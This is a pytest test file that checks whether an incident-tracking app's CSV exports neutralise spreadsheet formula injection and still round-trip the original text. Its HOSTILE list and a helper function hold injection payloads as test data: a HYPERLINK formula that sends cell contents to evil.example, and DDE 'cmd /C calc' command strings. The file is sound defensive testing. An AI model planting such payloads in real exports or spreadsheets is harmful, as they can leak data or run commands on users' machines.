"""CSV exports are safe to open in a spreadsheet, and read back to exactly what was typed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from app.adapters.csv_mapping import ColumnMapping
from app.adapters.spreadsheet_cells import restore_cell, safe_cell
from app.adapters.tabular_export import write_records
from app.cli_report import _csv
from app.db.models import Incident
from app.services.context import ServiceContext
from app.services.imports.commands import import_csv
from app.services.incidents.reads import IncidentReads
from app.services.reports.incident_exports import INCIDENT_COLUMNS, incident_records
from app.services.reports.reads import ReportTable
from app.services.reports.record_exports import (
    CALL_COLUMNS,
    QUEUE_COLUMNS,
    TIMELINE_COLUMNS,
    call_records,
    queue_records,
    timeline_records,
)
from tests.helpers import MONDAY_MORNING, add_call, open_incident

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_starts_with_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["-5", "-12.5", "+3", "1e-3", "-.5", "Printer jams", "", "'quoted'"]
)
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert safe_cell(text) == text
    assert restore_cell(text) == text


def test_text_that_already_starts_with_an_apostrophe_before_a_formula_survives() -> None:
    assert safe_cell("'=1+1") == "''=1+1"
    assert restore_cell("''=1+1") == "'=1+1"


@given(st.text())
def test_restore_undoes_safe_cell_for_any_text(text: str) -> None:
    assert restore_cell(safe_cell(text)) == text


@given(st.text())
def test_a_safe_cell_never_starts_like_a_formula_unless_it_is_a_number(text: str) -> None:
    cell = safe_cell(text)
    if cell[:1] in set("=+-@\t\r"):
        assert float(cell) == float(text)


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def _hostile_incidents(ctx: ServiceContext) -> list[int]:
    ids = []
    for n, title in enumerate(HOSTILE):
        incident = open_incident(ctx, title.strip() or "x")
        add_call(ctx.db, incident.id, MONDAY_MORNING, caller=f"=cmd|' /C calc'!A{n}")
        ids.append(incident.id)
    return ids


def test_every_csv_export_neutralises_formulas(ctx: ServiceContext, tmp_path: Path) -> None:
    ids = _hostile_incidents(ctx)
    titles = {t.strip() for t in HOSTILE}

    incidents = tmp_path / "incidents.csv"
    write_records(incident_records(ctx), INCIDENT_COLUMNS, "csv", incidents)
    assert {row["title"] for row in _cells(incidents)} == {safe_cell(t) for t in titles}

    queue = tmp_path / "queue.csv"
    rows = IncidentReads(ctx).rows(ids)
    write_records(queue_records(rows, ctx.clock.now()), QUEUE_COLUMNS, "csv", queue)
    assert {row["title"] for row in _cells(queue)} == {safe_cell(t) for t in titles}

    calls = tmp_path / "calls.csv"
    write_records(call_records(ctx), CALL_COLUMNS, "csv", calls)
    assert all(row["caller"].startswith("'=cmd") for row in _cells(calls))

    timeline = tmp_path / "timeline.csv"
    number = IncidentReads(ctx).rows(ids[:1])[0].number
    write_records(timeline_records(ctx, number), TIMELINE_COLUMNS, "csv", timeline)
    for row in _cells(timeline):
        for value in row.values():
            assert value[:1] not in set("=+@\t\r"), row


def test_the_report_csv_neutralises_formulas_but_keeps_negative_numbers() -> None:
    table = ReportTable("=Team", ("team", "delta"), (("@SUM(1+1)", -5), ("Desk", 3)))
    rows = list(csv.reader(io.StringIO(_csv([("teams", table)]))))
    assert rows == [["team", "delta"], ["'@SUM(1+1)", "-5"], ["Desk", "3"]]


def test_importing_calmdesk_s_own_export_gives_the_original_titles(
    ctx: ServiceContext, tmp_path: Path
) -> None:
    _hostile_incidents(ctx)
    out = tmp_path / "incidents.csv"
    write_records(incident_records(ctx), INCIDENT_COLUMNS, "csv", out)
    with ctx.db.write() as session:
        for incident in session.scalars(select(Incident)):
            incident.number = "OLD" + incident.number
    mapping = ColumnMapping.from_json(
        {
            "name": "Calmdesk export",
            "fields": {
                "number": {"column": "number"},
                "title": {"column": "title"},
                "opened_at": {"column": "opened_at"},
            },
        }
    )
    report = import_csv(ctx, out, mapping)
    assert report.incidents_created == len(HOSTILE)
    with ctx.db.read() as session:
        imported = set(
            session.scalars(select(Incident.title).where(Incident.number.not_like("OLD%")))
        )
    assert imported == {t.strip() for t in HOSTILE}
